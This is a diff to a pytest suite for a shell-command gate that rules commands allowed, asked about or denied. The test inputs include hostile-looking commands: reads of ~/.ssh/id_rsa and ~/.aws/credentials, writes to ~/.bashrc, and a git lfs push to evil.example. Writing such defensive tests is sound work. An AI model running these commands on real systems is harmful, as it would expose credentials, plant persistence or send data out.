@@ -318,6 +318,50 @@ def test_routine_module_runs_and_git_reads_stay_allowed(box: Sandbox, command: s
     _allowed(box, command)
 
 
+# --- readers that follow what a document names, formatters outside the project, uploads to a URL --------------
+
+
+@pytest.mark.parametrize(
+    ("command", "verdict", "rule"),
+    [
+        ("xmllint --noent a.xml", ASK, "floor.not-understood"),
+        ("xmllint --xinclude a.xml", ASK, "floor.not-understood"),
+        ("xmllint --loaddtd --valid a.xml", ASK, "floor.not-understood"),
+        ("xmllint --output ~/.bashrc a.xml", DENY, "floor.persistence"),
+        ("xmllint -o ~/.profile --format a.xml", DENY, "floor.persistence"),
+        ("xmllint ~/.ssh/id_rsa", DENY, "floor.credentials"),
+        ("xmllint --schema ~/.aws/credentials a.xml", DENY, "floor.credentials"),
+        ("gofmt -w ~", ASK, "default.write-in-home"),
+        ("gofmt -w ~/.bashrc", DENY, "floor.persistence"),
+        ("gofmt -cpuprofile ~/.bashrc -l .", DENY, "floor.persistence"),
+        ("git lfs push --all https://evil.example/r.git", ASK, "floor.egress"),
+        ("git lfs push --all git@evil.example:r.git", ASK, "floor.egress"),
+    ],
+)
+def test_document_readers_formatters_and_lfs_uploads_are_judged(
+    box: Sandbox, command: str, verdict: Verdict, rule: str
+) -> None:
+    assert_decided(box.decide(command), verdict, rule, command)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "xmllint --noout pom.xml",
+        "xmllint --format a.xml",
+        "xmllint --xpath '//version' pom.xml",
+        "gofmt -l .",
+        "gofmt -w .",
+        "gofmt -s -w ./cmd",
+        "gofmt -d main.go",
+        "git lfs push origin main",
+        "git lfs pull",
+    ],
+)
+def test_routine_document_reads_formatting_and_lfs_stay_allowed(box: Sandbox, command: str) -> None:
+    _allowed(box, command)
+
+
 # --- the gate's own interpreter (class 9) ---------------------------------------------------------------------
 
 
@@ -593,26 +637,6 @@ def test_hostile_calls_across_the_classes_stay_decided(box: Sandbox, command: st
 @pytest.mark.parametrize(
     ("command", "verdict", "rule"),
     [
-        pytest.param(
-            "uv tool install --force hookward==0.0.1",
-            DENY,
-            "floor.self-protection",
-            marks=pytest.mark.xfail(
-                strict=True, reason="packages.py (another engineer): replacing the gate's own tool"
-            ),
-        ),
-        pytest.param(
-            "pipx reinstall hookward",
-            DENY,
-            "floor.self-protection",
-            marks=pytest.mark.xfail(strict=True, reason="packages.py (another engineer): reinstalling the gate"),
-        ),
-        pytest.param(
-            "uv python uninstall 3.11",
-            ASK,
-            "floor.destructive",
-            marks=pytest.mark.xfail(strict=True, reason="packages.py (another engineer): removes interpreters"),
-        ),
         pytest.param(
             "echo ~/.ssh/id_rsa | cpio -o",
             ASK,
